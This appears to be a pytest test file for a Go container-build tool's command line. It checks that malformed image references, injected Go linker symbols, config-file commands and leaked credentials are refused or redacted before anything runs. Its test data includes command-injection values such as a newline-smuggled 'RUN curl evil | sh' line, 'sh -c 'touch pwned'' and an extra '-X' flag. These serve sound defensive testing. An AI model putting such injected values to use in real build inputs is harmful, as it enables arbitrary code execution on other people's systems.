"""Hostile and malformed input is refused before anything runs:
image references in distribution's grammar, -X targets as Go symbols, nothing from a
project's config file executed by plan or --dry-run, the workdir never inside the project."""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from buildx_go.cli import main as cli
from buildx_go.cli.effects import Effects
from buildx_go.config import resolve
from buildx_go.errors import InputError
from buildx_go.refs import Reference, problem
from tests.unit.planning import HELLO, FakeDocker

VALID = [
    "localhost:5000/hello",
    "127.0.0.1:5000/team/app",
    "[::1]:5000/app",
    "registry.example.com/a/b__c/d-e.f",
    "app",
    "golang:1.27",
    "gcr.io/distroless/static-debian12:nonroot",
    "ghcr.io/o/app@sha256:" + "a" * 64,
    "Registry.Example.com/app",  # an upper-case host is a host (docker's rule)
    "a" * 247,  # library/ + 247: docker's limit is on the normalised path
    "localhost/" + "a" * 255,
    "app@sha384:" + "a" * 96,
    "a" * 64 + ":1",
]
INVALID = [
    ("", "empty"),
    ("-rf", "path component '-rf'"),
    ("../x", "'..' is not a registry host"),
    ("Upper/Case", "path component 'Case'"),
    ("http://example.com/app", "'http:' is not a registry host"),
    ("localhost:99999/x", "port 99999 is out of range"),
    ("localhost:0/x", "port 0 is out of range"),
    ("app:", "the tag ''"),
    ("app:-1", "the tag '-1'"),
    ("app:" + "1" * 129, "the tag"),
    ("app@sha256:abc", "the digest 'sha256:abc'"),
    ("straße", "non-ASCII"),
    ("版本", "non-ASCII"),
    ("a b", "spaces"),
    ("x\nRUN curl evil | sh", "control"),
    ("app//x", "path component ''"),
    ("a" * 248, "longer than 255"),
    ("localhost/" + "a" * 256, "longer than 255"),
    ("a" * 64, "image ID"),
    ("[::1.2.3.4]/x", "not a registry host"),
    ("a/-b", "path component '-b'"),
    ("a/b_", "path component 'b_'"),
]


@pytest.mark.parametrize("text", VALID)
def test_valid_references(text: str) -> None:
    assert problem(text) is None
    assert Reference.parse(text).repository


@pytest.mark.parametrize(("text", "why"), INVALID)
def test_invalid_references_say_why(text: str, why: str) -> None:
    found = problem(text)
    assert found is not None and why in found
    with pytest.raises(InputError):
        Reference.parse(text)


@pytest.mark.parametrize(
    ("cli_vals", "env", "file", "fragment"),
    [
        ({"image": "-rf"}, {}, {}, "--image: '-rf'"),
        ({"image": "localhost:5000/app:1.0"}, {}, {}, "--image: 'localhost:5000/app:1.0' must be a repository"),
        ({}, {"BUILDX_GO_IMAGE": "http://r/app"}, {}, "BUILDX_GO_IMAGE: 'http://r/app'"),
        ({}, {}, {"image": "Upper/Case"}, ".buildx-go.toml image: 'Upper/Case'"),
        ({"base_image": "static\nRUN id"}, {}, {}, "--base-image: 'static\\nRUN id'"),
        ({"go_image": "golang:1.27 AS x"}, {}, {}, "--go-image: 'golang:1.27 AS x'"),
        ({"builder_image": "moby/buildkit:-x"}, {}, {}, "--builder-image:"),
        ({}, {}, {"base_image": ["a"]}, ".buildx-go.toml base-image: not a string"),
        ({"version_var": 'main.version" -X "main.x'}, {}, {}, "--version-var: 'main.version\" -X"),
        ({"version_var": "main.version\n"}, {}, {}, "--version-var:"),
        ({"version_var": "version"}, {}, {}, "--version-var: 'version' is not IMPORTPATH.NAME"),
        ({"version_var": "main.1x"}, {}, {}, "--version-var:"),
    ],
)
def test_bad_references_and_symbols_name_the_field(
    cli_vals: dict[str, Any], env: dict[str, str], file: dict[str, Any], fragment: str
) -> None:
    with pytest.raises(InputError) as err:
        resolve(cli_vals, env, file)
    assert fragment in err.value.message
    assert err.value.exit_code == 2


def test_good_symbols_pass() -> None:
    for symbol in ("main.version", "example.com/app/internal/build.Version", "gopkg.in/x.v2/cmd.ver_1"):
        assert resolve({"version_var": symbol}, {}, {}).version_var == symbol


class Recorder:
    """Every effect that could reach outside: each call is recorded, docker answers its probes."""

    def __init__(self) -> None:
        self.docker = FakeDocker("containerd")
        self.programs: list[list[str]] = []

    def effects(self) -> Effects:
        def program(argv: Any, cwd: Any, timeout: Any) -> tuple[int, str, str]:
            self.programs.append(list(argv))
            return 0, "9.9.9\n", ""

        return Effects(
            docker=lambda env: self.docker,
            git=lambda argv, cwd, timeout: (128, "", "not a repo"),
            program=program,
        )


def test_a_bad_image_is_exit_2_before_any_docker_call(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    rec = Recorder()
    argv = ["--log-format", "json", "build", str(HELLO), "--image", "localhost:99999/app", "--tag", "1", "--push"]
    code = cli.main(argv, env={"HOME": str(tmp_path)}, effects=rec.effects())
    err = capsys.readouterr().err
    assert code == 2
    assert "ERROR --image: 'localhost:99999/app': the port 99999 is out of range" in err
    assert rec.docker.probes == [] and rec.docker.runs == []


def project_with_config(tmp_path: Path, toml: str) -> Path:
    root = tmp_path / "proj"
    shutil.copytree(HELLO, root)
    (root / ".buildx-go.toml").write_text(toml)
    return root


@pytest.mark.parametrize("command", [["plan"], ["build", "--dry-run"]])
def test_plan_and_dry_run_never_run_the_projects_version_command(
    command: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    root = project_with_config(tmp_path, "[build]\nversion-from = \"sh -c 'touch pwned'\"\n")
    rec = Recorder()
    argv = ["--log-format", "json", command[0], str(root), "--image", "localhost:5000/app", *command[1:]]
    code = cli.main([*argv, "--strategy", "buildx"], env={"HOME": str(tmp_path)}, effects=rec.effects())
    out, err = capsys.readouterr()
    assert code == 0, err
    assert rec.programs == []
    assert "localhost:5000/app:version-from" in out
    assert "comes from the project's config file and plan/--dry-run never run a project's commands" in out + err


def test_the_version_command_given_on_the_command_line_runs_for_plan(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    rec = Recorder()
    argv = ["--log-format", "json", "plan", str(HELLO), "--image", "localhost:5000/app", "--strategy", "buildx"]
    code = cli.main([*argv, "--version-from", "./version.sh"], env={"HOME": str(tmp_path)}, effects=rec.effects())
    assert code == 0
    assert rec.programs == [["./version.sh"]]
    assert "localhost:5000/app:9.9.9" in capsys.readouterr().out


@pytest.mark.parametrize("inside", [".", "sub/dir"])
def test_a_workdir_inside_the_project_is_refused(
    inside: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    root = project_with_config(tmp_path, "")
    before = (root / "main.go").read_text() if (root / "main.go").exists() else None
    rec = Recorder()
    argv = ["--log-format", "json", "build", str(root), "--image", "localhost:5000/app", "--tag", "1"]
    env = {"HOME": str(tmp_path), "BUILDX_GO_WORKDIR": str(root / inside)}
    code = cli.main([*argv, "--strategy", "buildx"], env=env, effects=rec.effects())
    assert code == 2
    assert "ERROR BUILDX_GO_WORKDIR:" in capsys.readouterr().err
    assert not (root / "Dockerfile").exists() and not (root / "sub").exists()
    assert rec.docker.runs == []
    assert before is None or (root / "main.go").read_text() == before


SECRET = "s3cr3t-canary-7f1e"


@pytest.mark.parametrize(
    ("remote", "label"),
    [
        (f"https://user:{SECRET}@github.com/o/r.git", "https://github.com/o/r.git"),
        (f"git+https://user:{SECRET}@host/o/r", "git+https://host/o/r"),
        (f"https://gitlab.com/o/r.git?private_token={SECRET}", "https://gitlab.com/o/r.git"),
        (f"https://host/o/r?access_token={SECRET}#x", "https://host/o/r"),
        (f"user:{SECRET}@host:o/r.git", "host:o/r.git"),
        (f"ssh://git:{SECRET}@host:22/o/r", "ssh://host:22/o/r"),
        (f"https://u:p@{SECRET}@host/x", "https://host/x"),
        ("git@github.com:o/r.git", "git@github.com:o/r.git"),
    ],
)
def test_git_remotes_lose_their_credentials_in_every_shape(remote: str, label: str) -> None:
    from buildx_go.project.gitinfo import strip_credentials

    assert strip_credentials(remote) == label


def test_command_output_in_errors_is_redacted() -> None:
    from buildx_go.project.gitinfo import redact_text

    text = redact_text(f"curl https://u:{SECRET}@h/x?token={SECRET} Authorization: Bearer {SECRET} password={SECRET}")
    assert SECRET not in text


def test_a_failing_version_command_never_shows_its_arguments(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    rec = Recorder()

    def fails(argv: Any, cwd: Any, timeout: Any) -> tuple[int, str, str]:
        return 22, "", f"curl: (22) The requested URL returned error: 401 for https://u:{SECRET}@h/v"

    effects = Effects(docker=lambda env: rec.docker, git=lambda a, c, t: (128, "", ""), program=fails)
    command = f"curl -H 'Authorization: Bearer {SECRET}' https://u:{SECRET}@h/v"
    argv = ["--log-format", "json", "plan", str(HELLO), "--image", "localhost:5000/app", "--version-from", command]
    code = cli.main(argv, env={"HOME": str(tmp_path)}, effects=effects)
    err = capsys.readouterr().err
    assert code == 2
    assert "ERROR --version-from: 'curl' (and 3 arguments, not shown) exited 22 without a version" in err
    assert SECRET not in err


def test_a_file_that_is_not_a_dockerfile_is_not_echoed(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    root = project_with_config(tmp_path, "")
    (root / "app.env").write_text(f"API_TOKEN={SECRET}\n")
    argv = ["--log-format", "json", "plan", str(root), "--image", "localhost:5000/app", "--tag", "1"]
    code = cli.main([*argv, "--file", "app.env"], env={"HOME": str(tmp_path)}, effects=Recorder().effects())
    err = capsys.readouterr().err
    assert code == 2 and "app.env:1: not a Dockerfile instruction" in err
    assert SECRET.upper() not in err.upper()


@pytest.fixture
def within_5_s() -> Any:
    """Fail a test that hangs (a FIFO read, a symlink loop walked) instead of waiting forever."""
    import signal

    def hung(*_: object) -> None:
        raise AssertionError("did not finish within 5 s")

    old = signal.signal(signal.SIGALRM, hung)
    signal.alarm(5)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


def plan_of(root: Path, tmp_path: Path, *extra: str) -> tuple[int, str, str]:
    import contextlib
    import io

    argv = ["--log-format", "json", "plan", str(root), "--image", "localhost:5000/app", "--tag", "1", *extra]
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main([*argv, "--strategy", "buildx"], env={"HOME": str(tmp_path)}, effects=Recorder().effects())
    return code, out.getvalue(), err.getvalue()


def test_fifos_devices_dangling_links_and_link_loops_in_the_tree_are_left_out(tmp_path: Path, within_5_s: None) -> None:
    root = project_with_config(tmp_path, "")
    os.mkfifo(root / "pipe.go")  # reading it would block forever
    (root / "zero.go").symlink_to("/dev/zero")  # reading it would never end
    (root / "gone.go").symlink_to(root / "nowhere.go")
    (root / "loop").symlink_to(root)  # a -> . : go's ./... does not follow it either
    (root / "sub").mkdir()
    (root / "sub" / "up").symlink_to(root)
    code, _, err = plan_of(root, tmp_path)
    assert code == 0, err
    assert "mains" in err and '"mains": ["."]' in err


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("go.mod", lambda p: os.mkfifo(p), "go.mod: not a regular file"),
        ("Dockerfile", lambda p: p.write_bytes(b"FROM scratch\n#" + b"x" * (1 << 20)), "larger than 1 MiB"),
        (".buildx-go.toml", lambda p: p.symlink_to("/dev/zero"), ".buildx-go.toml: not a regular file"),
        (".buildx-go.toml", lambda p: p.write_text("platform = 5\n"), ".buildx-go.toml platform: "),
        (".buildx-go.toml", lambda p: p.write_text("push = 'maybe'\n"), ".buildx-go.toml push: not a boolean"),
        (".buildx-go.toml", lambda p: p.write_bytes(b"base-image = 'caf\\xe9'\n"), "base-image: 'caf"),
    ],
)
def test_files_that_cannot_be_what_they_claim_are_exit_2_naming_them(
    name: str, make: Any, message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], within_5_s: None
) -> None:
    root = project_with_config(tmp_path, "")
    target = root / name
    target.unlink(missing_ok=True)
    make(target)
    code, _, err = plan_of(root, tmp_path)
    assert code == 2, err
    assert message in err and "Traceback" not in err


def test_a_bom_and_latin1_comments_in_a_dockerfile_are_read(tmp_path: Path) -> None:
    root = project_with_config(tmp_path, "")
    (root / "Dockerfile").write_bytes(
        b"\xef\xbb\xbf# syntax=docker/dockerfile:1\n# caf\xe9\nFROM localhost:5000/static:latest\nCOPY app /app\n"
    )
    code, out, err = plan_of(root, tmp_path)
    assert code == 0, err
    assert "dockerfile: user" in out
